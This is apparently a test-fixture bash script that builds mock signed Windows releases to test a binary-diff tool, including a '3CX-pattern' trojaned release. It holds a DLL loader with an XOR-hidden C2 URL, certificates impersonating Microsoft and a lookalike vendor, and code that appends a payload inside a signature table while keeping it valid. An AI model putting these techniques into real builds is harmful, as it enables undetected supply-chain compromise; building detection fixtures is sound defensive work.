#!/usr/bin/env bash
# Builds the releases the `tollgate diff` tests compare, from Debian packages only (mingw-w64 gcc
# and windres, openssl, osslsigncode, python3): a small Windows chat app "AcmeChat" with an EXE
# and two bundled third-party DLLs carrying VERSIONINFO, Authenticode-signed with throwaway CAs.
# Prints nothing on success; exits 77 when a tool is missing (callers skip).
#
#   build_releases.sh OUTDIR
#
# OUTDIR receives (each a directory holding AcmeChat/ with AcmeChat.exe, ffmpeg.dll,
# d3dcompiler_47.dll):
#   r1/          release 1.0.0: the EXE signed by the vendor, d3dcompiler_47.dll signed by
#                "Microsoft Corporation" (a test CA), ffmpeg.dll unsigned
#   r1-rebuild/  release 1.0.0 built and signed again from the same sources (reproducible)
#   r2/          release 1.1.0, clean: new EXE code and version, the DLLs copied from r1
#   r2-trojan/   release 1.1.0 as an attacker would ship it (the 3CX pattern):
#                - d3dcompiler_47.dll: r1's signed file with 281 KB (FE ED FA CE + random
#                  bytes) appended inside its WIN_CERTIFICATE, dwLength and the data directory
#                  size raised to match, so the signature stays valid;
#                - ffmpeg.dll: rebuilt with new code and the SAME version resource: it reads its
#                  sibling d3dcompiler_47.dll, allocates executable memory, and carries a C2 URL
#                  XOR-encoded with key 0x5a;
#                - AcmeChat.exe: r2's EXE signed with a certificate from another CA.
#   ca.pem, evil-ca.pem   the roots (for osslsigncode verify -CAfile)
#   payload.bin           the 281 KB hidden in the trojan's certificate table
set -euo pipefail
out=${1:?usage: build_releases.sh OUTDIR}
for tool in x86_64-w64-mingw32-gcc x86_64-w64-mingw32-windres osslsigncode openssl python3; do
  command -v "$tool" >/dev/null || { echo "missing $tool (scripts/deps.sh test)" >&2; exit 77; }
done
mkdir -p "$out"
out=$(cd "$out" && pwd)
src=$out/src
mkdir -p "$src"
cd "$src"
export SOURCE_DATE_EPOCH=1700000000 LC_ALL=C
sign_time=1700000000

version_rc() {  # FILE COMPANY PRODUCT DESCRIPTION VERSION(a,b,c,d) FILETYPE
  local dotted=${5//,/.}
  cat <<EOF
#include <winver.h>
1 VERSIONINFO
FILEVERSION $5
PRODUCTVERSION $5
FILEFLAGSMASK 0x3fL
FILEFLAGS 0x0L
FILEOS VOS_NT_WINDOWS32
FILETYPE $6
FILESUBTYPE 0x0L
BEGIN
  BLOCK "StringFileInfo"
  BEGIN
    BLOCK "040904b0"
    BEGIN
      VALUE "CompanyName", "$2"
      VALUE "FileDescription", "$4"
      VALUE "FileVersion", "$dotted"
      VALUE "InternalName", "$1"
      VALUE "OriginalFilename", "$1"
      VALUE "ProductName", "$3"
      VALUE "ProductVersion", "$dotted"
    END
  END
  BLOCK "VarFileInfo"
  BEGIN
    VALUE "Translation", 0x409, 1200
  END
END
EOF
}

# --- Sources ----------------------------------------------------------------------------------
cat >ffmpeg.c <<'EOF'
#include <windows.h>
__declspec(dllexport) unsigned avcodec_version(void) { return (58u << 16) | (134u << 8) | 100u; }
__declspec(dllexport) int av_decode(const unsigned char* in, int n, unsigned char* out) {
  for (int i = 0; i < n; ++i) out[i] = (unsigned char)(in[i] * 7 + 3);
  return n;
}
EOF
# The trojanized ffmpeg.dll: same exports, plus a loader that reads the sibling
# d3dcompiler_47.dll, copies its tail into executable memory, and knows a C2 URL kept
# XOR-encoded (key 0x5a) so that `strings` does not show it.
python3 - <<'EOF'
url = b"https://cdn.iconstorages-sync.net/images/icon13.ico"
enc = ", ".join("0x%02x" % (c ^ 0x5A) for c in url)
src = open("ffmpeg.c").read() + """
unsigned char acme_blob[] = { %s, 0x5a };  /* writable: the compiler cannot fold it */
static char g_url[128];
static DWORD WINAPI loader(LPVOID unused) {
  char path[MAX_PATH];
  DWORD n = GetModuleFileNameA(NULL, path, MAX_PATH);
  while (n > 0 && path[n - 1] != '\\\\') --n;
  lstrcpyA(path + n, "d3dcompiler_47.dll");
  HANDLE h = CreateFileA(path, GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING, 0, NULL);
  if (h == INVALID_HANDLE_VALUE) return 1;
  DWORD size = GetFileSize(h, NULL), got = 0;
  unsigned char* buf = VirtualAlloc(NULL, size, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
  if (buf && ReadFile(h, buf, size, &got, NULL)) {
    for (unsigned i = 0; i < sizeof acme_blob - 1 && i < sizeof g_url - 1; ++i) g_url[i] = acme_blob[i] ^ 0x5a;
    DWORD old;
    VirtualProtect(buf, size, PAGE_EXECUTE_READ, &old);
  }
  CloseHandle(h);
  return 0;
}
BOOL WINAPI DllMain(HINSTANCE inst, DWORD reason, LPVOID reserved) {
  (void)inst; (void)reserved;
  if (reason == DLL_PROCESS_ATTACH) CreateThread(NULL, 0, loader, NULL, 0, NULL);
  return TRUE;
}
""" % enc
open("ffmpeg_trojan.c", "w").write(src)
EOF
cat >d3dcompiler.c <<'EOF'
#include <windows.h>
__declspec(dllexport) HRESULT D3DCompile(const void* src, SIZE_T len, const char* name) {
  (void)src; (void)name;
  return len ? S_OK : E_INVALIDARG;
}
EOF
app_c() {  # GREETING
  cat <<EOF
#include <windows.h>
#include <stdio.h>
__declspec(dllimport) unsigned avcodec_version(void);
static const char kUpdate[] = "https://update.acmechat.example/check";
int main(void) {
  HMODULE d3d = LoadLibraryA("d3dcompiler_47.dll");
  printf("$1 %u %s %p\n", avcodec_version(), kUpdate, (void*)d3d);
  return 0;
}
EOF
}
app_c "AcmeChat 1.0" >app1.c
app_c "AcmeChat 1.1 with calls" >app2.c

version_rc AcmeChat.exe "Acme Chat Ltd" "AcmeChat" "AcmeChat desktop" "1,0,0,0" VFT_APP >app1.rc
version_rc AcmeChat.exe "Acme Chat Ltd" "AcmeChat" "AcmeChat desktop" "1,1,0,0" VFT_APP >app2.rc
version_rc ffmpeg.dll "FFmpeg Project" "FFmpeg" "FFmpeg codec library" "4,4,2,0" VFT_DLL >ffmpeg.rc
version_rc d3dcompiler_47.dll "Microsoft Corporation" "Microsoft Windows Operating System" \
  "Direct3D HLSL Compiler" "10,0,19041,1" VFT_DLL >d3d.rc
for rc in app1 app2 ffmpeg d3d; do x86_64-w64-mingw32-windres "$rc.rc" -O coff -o "$rc.res"; done

cc() { x86_64-w64-mingw32-gcc -O1 -Wl,--no-insert-timestamp "$@"; }

# --- Certificates -----------------------------------------------------------------------------
ca() {  # NAME SUBJECT
  openssl req -x509 -newkey rsa:2048 -nodes -keyout "$1.key" -out "$1.pem" -days 3650 \
    -subj "$2" -addext "basicConstraints=critical,CA:TRUE" \
    -addext "keyUsage=critical,keyCertSign,cRLSign" 2>/dev/null
}
leaf() {  # NAME SUBJECT CA
  openssl req -newkey rsa:2048 -nodes -keyout "$1.key" -out "$1.csr" -subj "$2" 2>/dev/null
  printf 'basicConstraints=CA:FALSE\nkeyUsage=critical,digitalSignature\nextendedKeyUsage=codeSigning\n' >"$1.ext"
  openssl x509 -req -in "$1.csr" -CA "$3.pem" -CAkey "$3.key" -CAcreateserial -out "$1.pem" \
    -days 3650 -extfile "$1.ext" 2>/dev/null
  cat "$1.pem" "$3.pem" >"$1.chain.pem"
}
ca ca "/CN=Tollgate Test Root CA/O=Tollgate Test"
ca evil-ca "/CN=Code Signing Root R9/O=Trusted Certs Inc"
leaf vendor "/CN=Acme Chat Ltd/O=Acme Chat Ltd/C=GB" ca
leaf microsoft "/CN=Microsoft Corporation/O=Microsoft Corporation/C=US" ca
leaf attacker "/CN=Acme Chat Ltd./O=Acme Chat Ltd./C=GB" evil-ca
cp ca.pem evil-ca.pem "$out/"

sign() {  # CERT IN OUT
  osslsigncode sign -certs "$1.chain.pem" -key "$1.key" -h sha256 -time "$sign_time" \
    -n "AcmeChat" -in "$2" -out "$3" >/dev/null
}

build_release() {  # DIR APP FFMPEG_SRC EXE_SIGNER
  local d=$out/$1/AcmeChat
  rm -rf "$out/$1"
  mkdir -p "$d"
  cc -shared -o ffmpeg.dll "$3" ffmpeg.res
  cc -shared -o d3dcompiler_47.unsigned.dll d3dcompiler.c d3d.res
  cc -o AcmeChat.unsigned.exe "$2.c" "$2.res" ffmpeg.dll
  sign "$4" AcmeChat.unsigned.exe "$d/AcmeChat.exe"
  sign microsoft d3dcompiler_47.unsigned.dll "$d/d3dcompiler_47.dll"
  cp ffmpeg.dll "$d/ffmpeg.dll"
  printf 'AcmeChat %s\n' "$2" >"$d/README.txt"
}

build_release r1 app1 ffmpeg.c vendor
build_release r1-rebuild app1 ffmpeg.c vendor
build_release r2 app2 ffmpeg.c vendor
cp "$out/r1/AcmeChat/ffmpeg.dll" "$out/r1/AcmeChat/d3dcompiler_47.dll" "$out/r2/AcmeChat/"
build_release r2-trojan app2 ffmpeg_trojan.c attacker
cp "$out/r1/AcmeChat/d3dcompiler_47.dll" "$out/r2-trojan/AcmeChat/"

# The 3CX d3dcompiler_47.dll: the payload inside the WIN_CERTIFICATE after the PKCS#7 blob, both
# length fields (dwLength and the certificate table directory size) raised to cover it.
python3 - "$out/r2-trojan/AcmeChat/d3dcompiler_47.dll" "$out/payload.bin" <<'EOF'
import random, struct, sys
path, payload_out = sys.argv[1], sys.argv[2]
b = bytearray(open(path, "rb").read())
lfanew = struct.unpack_from("<I", b, 0x3c)[0]
opt = lfanew + 24
magic = struct.unpack_from("<H", b, opt)[0]
certdir = opt + (112 if magic == 0x20B else 96) + 8 * 4
off, size = struct.unpack_from("<II", b, certdir)
dw_length = struct.unpack_from("<I", b, off)[0]
assert off + size == len(b) and dw_length == size
rng = random.Random(3)
payload = b"\xfe\xed\xfa\xce" + bytes(rng.getrandbits(8) for _ in range(281 * 1024 - 4))
open(payload_out, "wb").write(payload)
b += payload
struct.pack_into("<I", b, off, dw_length + len(payload))
struct.pack_into("<II", b, certdir, off, size + len(payload))
open(path, "wb").write(b)
EOF
cd "$out"
rm -rf "$src"
